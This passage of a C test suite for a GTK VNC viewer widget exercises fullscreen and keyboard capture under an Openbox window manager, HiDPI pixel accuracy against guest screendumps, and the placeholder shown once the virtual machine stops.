  unsigned int uw, uh, border, depth;
  int gx, gy;

  XSync (xdisplay (), False);
  g_assert_true (XGetGeometry (xdisplay (), xid, &root, &gx, &gy, &uw, &uh, &border, &depth));
  g_assert_true (XTranslateCoordinates (xdisplay (), xid, root, 0, 0, x, y, &child));
  *w = uw;
  *h = uh;
}

static GtkWindow *
display_window (void)
{
  return GTK_WINDOW (gtk_widget_get_root (GTK_WIDGET (t.display)));
}

/* (The surface's state, which the grab follows: GtkWindow:is-active may
 * miss a focus change that happens during a keyboard grab.) */
static gboolean
display_window_active (gpointer data)
{
  GdkSurface *surface = gtk_native_get_surface (GTK_NATIVE (display_window ()));

  if (gdk_toplevel_get_state (GDK_TOPLEVEL (surface)) & GDK_TOPLEVEL_STATE_FOCUSED)
    return TRUE;
  spin (100);
  return FALSE;
}

/* Openbox on this test's X server, with one key binding of its own:
 * Super+E touches @marker. */
static void
start_window_manager (const char *marker)
{
  g_autofree char *rc = g_build_filename (t.tmp, "openbox-rc.xml", NULL);
  g_autofree char *xml = g_strdup_printf (
    "<?xml version=\"1.0\"?>\n"
    "<openbox_config xmlns=\"http://openbox.org/3.4/rc\">\n"
    "  <focus><focusNew>yes</focusNew></focus>\n"
    "  <keyboard>\n"
    "    <keybind key=\"W-e\">\n"
    "      <action name=\"Execute\"><command>touch %s</command></action>\n"
    "    </keybind>\n"
    "  </keyboard>\n"
    "</openbox_config>\n", marker);
  const char *argv[] = { "openbox", "--config-file", rc, NULL };
  g_autoptr(GError) error = NULL;

  g_assert_true (g_file_set_contents (rc, xml, -1, &error));
  g_assert_no_error (error);
  int err_fd;
  g_autofree char *err_path = g_build_filename (t.tmp, "openbox.log", NULL);

  g_auto(GStrv) env = g_get_environ ();
  const char *vars[] = { "HOME", "XDG_CONFIG_HOME", "XDG_STATE_HOME",
                         "XDG_CACHE_HOME", "XDG_DATA_HOME" };

  /* Dirs that outlive this test case (GLib removes each case's own), and
   * the system's themes. */
  for (guint i = 0; i < G_N_ELEMENTS (vars); i++)
    {
      g_autofree char *dir = g_build_filename (t.tmp, vars[i], NULL);

      env = g_environ_setenv (env, vars[i], dir, TRUE);
    }
  env = g_environ_setenv (env, "XDG_DATA_DIRS", "/usr/local/share:/usr/share", TRUE);
  env = g_environ_setenv (env, "XDG_CONFIG_DIRS", "/etc/xdg", TRUE);
  err_fd = open (err_path, O_WRONLY | O_CREAT | O_TRUNC, 0600);
  g_assert_true (g_spawn_async_with_fds (NULL, (char **) argv, env,
                                         G_SPAWN_SEARCH_PATH | G_SPAWN_DO_NOT_REAP_CHILD,
                                         NULL, NULL, &t.wm_pid, -1, err_fd, err_fd, &error));
  close (err_fd);
  g_assert_no_error (error);
  if (!wait_until (wm_running, NULL, 60))
    g_error ("openbox did not start");
}

static void
stop_window_manager (void)
{
  if (t.wm_pid == 0)
    return;
  kill (t.wm_pid, SIGTERM);
  waitpid (t.wm_pid, NULL, 0);
  g_spawn_close_pid (t.wm_pid);
  t.wm_pid = 0;
}

static void
activate_display_window (void)
{
  g_autofree char *args = g_strdup_printf ("windowactivate --sync %lu",
                                           gdk_x11_surface_get_xid (gtk_native_get_surface (GTK_NATIVE (display_window ()))));

  xdotool (args);
  if (!wait_until (display_window_active, NULL, 30))
    {
      g_autofree char *out = NULL;

      g_spawn_command_line_sync ("sh -c 'xprop -root _NET_ACTIVE_WINDOW; xdotool getwindowfocus'", &out, NULL, NULL, NULL);
      g_free (corral_test_screenshot ("vnc-view-no-focus"));
      g_autofree char *wm_log = NULL;
      g_autofree char *wm_log_path = g_build_filename (t.tmp, "openbox.log", NULL);

      g_file_get_contents (wm_log_path, &wm_log, NULL, NULL);
      g_test_message ("openbox (alive: %d): %s", kill (t.wm_pid, 0) == 0 && waitpid (t.wm_pid, NULL, WNOHANG) == 0, wm_log);
      g_error ("the window manager never focused the display's window %lu (state %x): %s",
               gdk_x11_surface_get_xid (gtk_native_get_surface (GTK_NATIVE (display_window ()))),
               gdk_toplevel_get_state (GDK_TOPLEVEL (gtk_native_get_surface (GTK_NATIVE (display_window ())))),
               out);
    }
  gtk_widget_grab_focus (GTK_WIDGET (t.display));
  spin (300);
}

static gboolean
fullscreen_is (gpointer data)
{
  gboolean want = GPOINTER_TO_INT (data), fullscreen;
  GtkWindow *window = display_window ();
  GdkRectangle screen;
  int x, y, w, h;

  g_object_get (t.view, "fullscreen", &fullscreen, NULL);
  if (fullscreen != want || (window != t.window) != want
      || !gtk_widget_get_mapped (GTK_WIDGET (window)))
    goto no;
  if (!want)
    return TRUE;
  /* The window manager made it cover the screen, and the display fills it. */
  {
    g_autoptr(GdkMonitor) monitor =
      g_list_model_get_item (gdk_display_get_monitors (gdk_display_get_default ()), 0);

    gdk_monitor_get_geometry (monitor, &screen);
  }
  x_geometry (gdk_x11_surface_get_xid (gtk_native_get_surface (GTK_NATIVE (window))), &x, &y, &w, &h);
  if (gtk_window_is_fullscreen (window) && x == 0 && y == 0
      && w == screen.width && h == screen.height
      && gtk_widget_get_width (GTK_WIDGET (t.display)) == screen.width
      && gtk_widget_get_height (GTK_WIDGET (t.display)) == screen.height)
    return TRUE;
no:
  spin (100);
  return FALSE;
}

static gboolean
shortcuts_inhibited_is (gpointer data)
{
  GdkSurface *surface = gtk_native_get_surface (GTK_NATIVE (display_window ()));
  gboolean inhibited;

  g_object_get (surface, "shortcuts-inhibited", &inhibited, NULL);
  if (inhibited == GPOINTER_TO_INT (data))
    return TRUE;
  spin (100);
  return FALSE;
}

static void
test_wm_fullscreen (void)
{
  g_autofree char *marker = g_build_filename (t.tmp, "wm-key-binding", NULL);
  gulong xid = window_xid ();
  int x0, y0, w0, h0, x, y, w, h;

  start_window_manager (marker);
  activate_display_window ();
  x_geometry (xid, &x0, &y0, &w0, &h0);

  /* F11, the display's shortcut, as a user presses it. */
  xdotool ("key F11");
  if (!wait_until (fullscreen_is, GINT_TO_POINTER (TRUE), 30))
    g_error ("the display did not go fullscreen");
  /* (The tiny guest's console cannot grow beyond the size its kernel
   * first set up, so it may stay smaller and be scaled.) */
  spin (1000);
  g_free (corral_test_screenshot ("vnc-view-fullscreen"));
  g_test_message ("fullscreen: guest %dx%d", corral_vnc_display_get_guest_width (t.display),
                  corral_vnc_display_get_guest_height (t.display));

  activate_display_window ();
  xdotool ("key F11");
  if (!wait_until (fullscreen_is, GINT_TO_POINTER (FALSE), 30))
    g_error ("the display did not leave fullscreen");
  spin (500);
  x_geometry (xid, &x, &y, &w, &h);
  g_test_message ("window %dx%d at %d,%d before, %dx%d at %d,%d after", w0, h0, x0, y0, w, h, x, y);
  g_assert_cmpint (w, ==, w0);
  g_assert_cmpint (h, ==, h0);
  g_assert_true (gtk_widget_is_ancestor (GTK_WIDGET (t.display), GTK_WIDGET (t.window)));
}

/* The kernel's key events the guest logged after the first @start. */
static char *
guest_keys_since (guint start)
{
  g_autofree char *cmd = g_strdup_printf ("grep '^input key' /tmp/corral-display.log | tail -n +%u",
                                          start + 1);

  return guest_run (cmd);
}

static gboolean
grab_label_shown (gpointer data)
{
  if (find_label (GTK_WIDGET (display_window ()), data) != NULL)
    return TRUE;
  spin (100);
  return FALSE;
}

static void
test_wm_grab (void)
{
  g_autofree char *marker = g_build_filename (t.tmp, "wm-key-binding", NULL);
  const char *long_hint = "The keyboard goes to the virtual machine. Press Ctrl+Alt to release it.";
  const char *short_hint = "Ctrl+Alt releases the keyboard";
  g_autofree char *seen = NULL;
  g_autofree char *seen_off = NULL;
  guint start;

  g_assert_cmpint (t.wm_pid, !=, 0);
  activate_display_window ();
  g_assert_false (g_file_test (marker, G_FILE_TEST_EXISTS));

  /* Captured: the window manager's own binding goes to the guest. */
  xdotool ("key ctrl+alt");
  if (!wait_until (grab_is, GINT_TO_POINTER (TRUE), 10))
    g_error ("Ctrl+Alt did not capture the keyboard");
  if (!wait_until (shortcuts_inhibited_is, GINT_TO_POINTER (TRUE), 10))
    g_error ("the window did not grab the keyboard");
  g_assert_true (wait_until (grab_label_shown, (gpointer) long_hint, 5));
  g_free (corral_test_screenshot ("vnc-view-grab-hint"));
  start = guest_keys_settle (0);
  xdotool ("key super+e");
  guest_keys_settle (start + 4);
  seen = guest_keys_since (start);
  g_test_message ("grabbed, Super+E:\n%s", seen);
  /* (xdotool releases in the order it pressed) */
  g_assert_true (g_str_equal (seen, "input key 125 down\r\ninput key 18 down\r\n"
                                    "input key 18 up\r\ninput key 125 up\r\n")
                 || g_str_equal (seen, "input key 125 down\r\ninput key 18 down\r\n"
                                       "input key 125 up\r\ninput key 18 up\r\n"));
  spin (1000);
  g_assert_false (g_file_test (marker, G_FILE_TEST_EXISTS));
  /* Long after, the way out is still on screen. */
  if (!wait_until (grab_label_shown, (gpointer) short_hint, 15))
    g_error ("no hint how to release the keyboard while it is captured");
  g_free (corral_test_screenshot ("vnc-view-grab-hint-short"));
  g_assert_true (shortcuts_inhibited_is (GINT_TO_POINTER (TRUE)));

  /* The capture follows the display into fullscreen and back (chosen
   * from the menu: F11 goes to the guest while captured). */
  g_action_group_activate_action (corral_vnc_view_get_actions (t.view), "fullscreen", NULL);
  if (!wait_until (fullscreen_is, GINT_TO_POINTER (TRUE), 30))
    g_error ("the display did not go fullscreen");
  if (!wait_until (shortcuts_inhibited_is, GINT_TO_POINTER (TRUE), 10))
    g_error ("the fullscreen window did not grab the keyboard");
  g_assert_true (wait_until (grab_label_shown, (gpointer) long_hint, 5));
  g_action_group_activate_action (corral_vnc_view_get_actions (t.view), "fullscreen", NULL);
  if (!wait_until (fullscreen_is, GINT_TO_POINTER (FALSE), 30))
    g_error ("the display did not leave fullscreen");
  activate_display_window ();
  if (!wait_until (shortcuts_inhibited_is, GINT_TO_POINTER (TRUE), 10))
    {
      GdkSurface *sf = gtk_native_get_surface (GTK_NATIVE (display_window ()));
      gboolean grab;
      g_object_get (t.view, "grab-keyboard", &grab, NULL);
      g_error ("the window did not grab the keyboard again (state %x, wish %d, mapped %d)",
               gdk_toplevel_get_state (GDK_TOPLEVEL (sf)), grab, gdk_surface_get_mapped (sf));
    }

  /* Released: the window manager gets its binding, the guest does not. */
  xdotool ("key ctrl+alt");
  if (!wait_until (grab_is, GINT_TO_POINTER (FALSE), 10))
    g_error ("Ctrl+Alt did not release the keyboard");
  g_assert_true (shortcuts_inhibited_is (GINT_TO_POINTER (FALSE)));
  g_assert_null (find_label (GTK_WIDGET (t.window), short_hint));
  g_assert_null (find_label (GTK_WIDGET (t.window), long_hint));
  start = guest_keys_settle (0);
  xdotool ("key super+e");
  for (guint i = 0; i < 100 && !g_file_test (marker, G_FILE_TEST_EXISTS); i++)
    spin (100);
  g_assert_true (g_file_test (marker, G_FILE_TEST_EXISTS));
  guest_keys_settle (0);
  seen_off = guest_keys_since (start);
  g_test_message ("not grabbed, Super+E:\n%s", seen_off);
  g_assert_null (strstr (seen_off, "input key 18 "));
}

/* --- HiDPI (GDK_SCALE=2: the vnc-view-hidpi test) ----------------------- */

/* The screen as X has it: device pixels. */
static GdkTexture *
grab_screen (const char *name)
{
  g_autofree char *png = g_strdup_printf ("%s/%s.png", g_getenv ("G_TEST_BUILDDIR") ?: ".", name);
  g_autofree char *cmd = g_strdup_printf ("import -window root '%s'", png);
  g_autoptr(GError) error = NULL;
  GdkTexture *texture;

  g_assert_cmpint (system (cmd), ==, 0);
  g_test_message ("screen: %s", png);
  texture = gdk_texture_new_from_filename (png, &error);
  g_assert_no_error (error);
  return texture;
}

/* Where guest pixel (@gx, @gy)'s centre is on the screen, in device
 * pixels (the window is not moved while this runs). */
static void
guest_to_screen (int gx, int gy, int wx, int wy, int *sx, int *sy)
{
  int sf = gtk_widget_get_scale_factor (GTK_WIDGET (t.display));
  GtkNative *native = gtk_widget_get_native (GTK_WIDGET (t.display));
  double lx, ly, nx, ny;
  graphene_point_t p;

  corral_vnc_display_guest_to_widget (t.display, gx + 0.5, gy + 0.5, &lx, &ly);
  g_assert_true (gtk_widget_compute_point (GTK_WIDGET (t.display), GTK_WIDGET (native),
                                           &GRAPHENE_POINT_INIT (lx, ly), &p));
  gtk_native_get_surface_transform (native, &nx, &ny);
  *sx = wx + (int) floor ((p.x + nx) * sf);
  *sy = wy + (int) floor ((p.y + ny) * sf);
}

static int
channel_diff (guint32 a, guint32 b)
{
  int worst = 0;

  for (int c = 0; c < 24; c += 8)
    worst = MAX (worst, ABS ((int) ((a >> c) & 0xff) - (int) ((b >> c) & 0xff)));
  return worst;
}

static gboolean
scale_to_fit_is (gpointer data)
{
  gboolean fit;

  g_object_get (t.view, "scale-to-fit", &fit, NULL);
  spin (300);  /* and drawn */
  return fit == GPOINTER_TO_INT (data);
}

static gboolean
display_narrower (gpointer width)
{
  if (gtk_widget_get_width (GTK_WIDGET (t.display)) < GPOINTER_TO_INT (width))
    return TRUE;
  spin (100);
  return FALSE;
}

static void
test_hidpi (void)
{
  g_autofree char *dump_path = g_build_filename (t.tmp, "hidpi-dump.png", NULL);
  g_autoptr(GdkTexture) dump = NULL;
  g_autoptr(GdkTexture) screen = NULL;
  g_autoptr(GdkTexture) fitted = NULL;
  g_autoptr(GError) error = NULL;
  g_autofree guint32 *dp = NULL, *sp = NULL, *fp = NULL;
  GError *done = NULL;
  int sf = gtk_widget_get_scale_factor (GTK_WIDGET (t.display));
  int gw, gh, sw, sh, wx, wy, ww, wh, differ = 0, bad = 0, x0, y0, x1, y1;
  /* The colour the guest's whole framebuffer is filled with below. */
  const guint32 fill = 0x3080c0;

  g_assert_cmpint (sf, ==, 2);
  if (!wait_until (banner_shown, NULL, TIMEOUT))
    g_error ("the guest's banner never showed");
  /* Keep the guest's size whatever happens to the window, and its
   * console's cursor from blinking. */
  corral_vnc_display_set_resize_guest (t.display, FALSE);
  g_free (guest_run ("printf '\\033[?25l' > /dev/tty1"));
  spin (3000);

  /* 1:1: one guest pixel is one device pixel, the guest's picture exactly. */
  g_action_group_activate_action (corral_vnc_view_get_actions (t.view), "scale-to-fit", NULL);
  g_assert_true (wait_until (scale_to_fit_is, GINT_TO_POINTER (FALSE), 10));
  spin (1000);
  corral_vm_screendump_async (t.vm, dump_path, NULL, screendump_cb, &done);
  g_assert_true (wait_until (screendump_done, &done, 60));
  if (!g_error_matches (done, G_IO_ERROR, G_IO_ERROR_EXISTS))
    g_error ("screendump failed: %s", done->message);
  g_clear_error (&done);
  spin (500);
  screen = grab_screen ("vnc-view-hidpi-1to1");
  dump = gdk_texture_new_from_filename (dump_path, &error);
  g_assert_no_error (error);
  gw = gdk_texture_get_width (dump);
  gh = gdk_texture_get_height (dump);
  sw = gdk_texture_get_width (screen);
  sh = gdk_texture_get_height (screen);
  g_assert_cmpint (gw, ==, corral_vnc_display_get_guest_width (t.display));
  dp = download (dump);
  sp = download (screen);
  x_geometry (window_xid (), &wx, &wy, &ww, &wh);
  {
    int ax, ay, bx, by;

    /* Neighbouring guest pixels are neighbouring device pixels. */
    guest_to_screen (0, 0, wx, wy, &ax, &ay);
    guest_to_screen (100, 100, wx, wy, &bx, &by);
    g_assert_cmpint (bx - ax, ==, 100);
    g_assert_cmpint (by - ay, ==, 100);
  }
  for (int y = 0; y < gh; y++)
    for (int x = 0; x < gw; x++)
      {
        int X, Y;

        guest_to_screen (x, y, wx, wy, &X, &Y);
        /* (1:1 scrolls: only what is on screen) */
        if (X < wx || Y < wy || X >= MIN (sw, wx + ww) || Y >= MIN (sh, wy + wh))
          continue;
        if (channel_diff (dp[y * gw + x], sp[Y * sw + X]) > 8)
          differ++;
      }
  g_test_message ("HiDPI 1:1: guest %dx%d, window %dx%d device pixels, %d pixels differ",
                  gw, gh, ww, wh, differ);
  g_assert_cmpint (differ, ==, 0);

  /* Scaled to fit: no seams between tiles. A guest that is one colour
   * shows as that colour, edge to edge, whatever the scale. */
  g_free (guest_run ("printf '\\300\\200\\060\\000' > /tmp/px && "
                     "for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20 21 22; do "
                     "cat /tmp/px /tmp/px > /tmp/px2 && mv /tmp/px2 /tmp/px; done && "
                     "dd if=/tmp/px of=/dev/fb0 bs=65536 2>/dev/null; rm -f /tmp/px"));
  g_action_group_activate_action (corral_vnc_view_get_actions (t.view), "scale-to-fit", NULL);
  g_assert_true (wait_until (scale_to_fit_is, GINT_TO_POINTER (TRUE), 10));
  /* A smaller window: the guest (which keeps its size) is scaled down by
   * a factor that is not a whole number. */
  gtk_window_set_default_size (t.window, 900, 700);
  if (!wait_until (display_narrower, GINT_TO_POINTER (gw / sf), 30))
    g_error ("the window did not get smaller");
  spin (3000);
  x_geometry (window_xid (), &wx, &wy, &ww, &wh);
  fitted = grab_screen ("vnc-view-hidpi-fit");
  fp = download (fitted);
  g_assert_cmpint (gdk_texture_get_width (fitted), ==, sw);
  /* The picture's rectangle, one device pixel in from its edges (the
   * filter blends the border with the black around it). */
  guest_to_screen (0, 0, wx, wy, &x0, &y0);
  guest_to_screen (gw - 1, gh - 1, wx, wy, &x1, &y1);
  g_test_message ("HiDPI fit: guest %dx%d shown at %d,%d-%d,%d", gw, gh, x0, y0, x1, y1);
  /* Scaled, not 1:1 (else this would prove nothing about seams). */
  g_assert_cmpint (x1 - x0, !=, gw - 1);
  for (int Y = MAX (y0, wy) + 1; Y < MIN (y1, sh) - 1; Y++)
    for (int X = MAX (x0, wx) + 1; X < MIN (x1, sw) - 1; X++)
      if (channel_diff (fp[Y * sw + X], fill) > 3)
        {
          if (bad < 5)
            g_test_message ("device pixel %d,%d is %06x", X, Y, fp[Y * sw + X] & 0xffffff);
          bad++;
        }
  g_test_message ("%d pixels differ from the guest's colour", bad);
  g_assert_cmpint (bad, ==, 0);
}

static gboolean
placeholder_shown (gpointer data)
{
  return corral_vm_get_state (t.vm) == CORRAL_VM_STATE_STOPPED
         && g_strcmp0 (corral_vnc_view_get_page (t.view), "placeholder") == 0;
}

static void
test_stopped (void)
{
  corral_vm_power_down (t.vm);
  if (!wait_until (placeholder_shown, NULL, TIMEOUT))
    g_error ("no placeholder after the VM stopped (state %d, page %s)",
             corral_vm_get_state (t.vm), corral_vnc_view_get_page (t.view));
  g_assert_false (corral_vnc_view_get_connected (t.view));
  g_assert_cmpstr (corral_vnc_view_get_placeholder_title (t.view), ==,
                   "The Virtual Machine Is Off");
}

static void
teardown (void)
{
  g_autofree char *cmd = g_strdup_printf ("rm -rf '%s'", t.tmp);

  stop_window_manager ();
  corral_test_console_detach (&t.console);
  if (corral_vm_get_state (t.vm) != CORRAL_VM_STATE_STOPPED
      && corral_vm_get_state (t.vm) != CORRAL_VM_STATE_FAILED)
    corral_vm_force_off (t.vm);
  gtk_window_destroy (t.window);
  g_clear_object (&t.vm);
  g_clear_object (&t.profile);
  g_clear_object (&t.guest);
  g_clear_pointer (&t.host, corral_host_free);
  g_assert_cmpint (system (cmd), ==, 0);
  g_free (t.tmp);
}

int
main (int argc, char **argv)
{
  int ret;

  /* Before GLib points the XDG dirs at /dev/null: libadwaita looks up the
   * desktop's settings schemas there, */
  adw_init ();
  /* Same for the MIME database, which icon loading needs for SVG. */
  g_free (g_content_type_guess ("icon.svg", NULL, 0, NULL));
  g_test_init (&argc, &argv, G_TEST_OPTION_ISOLATE_DIRS, NULL);

  g_test_add_func ("/vnc-view/shows-console", test_shows_console);
  g_test_add_func ("/vnc-view/partial-after-whole", test_partial_after_whole);
  /* vnc-view-gtk-drawn (tests/display/meson.build): the pictures alone,
   * with every tile drawn by GTK. */
  if (shm_off ())
    goto run;
  g_test_add_func ("/vnc-view/keys", test_keys);
  g_test_add_func ("/vnc-view/click", test_click);
  g_test_add_func ("/vnc-view/grab-toggle", test_grab_toggle);
  g_test_add_func ("/vnc-view/send-keys", test_send_keys);
  g_test_add_func ("/vnc-view/reconnect", test_reconnect);
  g_test_add_func ("/vnc-view/clipboard-to-guest", test_clipboard_to_guest);
  g_test_add_func ("/vnc-view/clipboard-from-guest", test_clipboard_from_guest);
  /* From here on a window manager runs. */
  g_test_add_func ("/vnc-view/wm-fullscreen", test_wm_fullscreen);
  g_test_add_func ("/vnc-view/wm-grab-keyboard", test_wm_grab);
  g_test_add_func ("/vnc-view/stopped-placeholder", test_stopped);
  /* Only where GTK runs at twice the scale (tests/meson.build runs the
   * file again that way): the checks assume device pixels = 2 × logical. */
  if (g_strcmp0 (g_getenv ("GDK_SCALE"), "2") == 0)
    g_test_add_func ("/vnc-view/hidpi", test_hidpi);

run:
  setup ();
  ret = g_test_run ();
  teardown ();
  return ret;
}
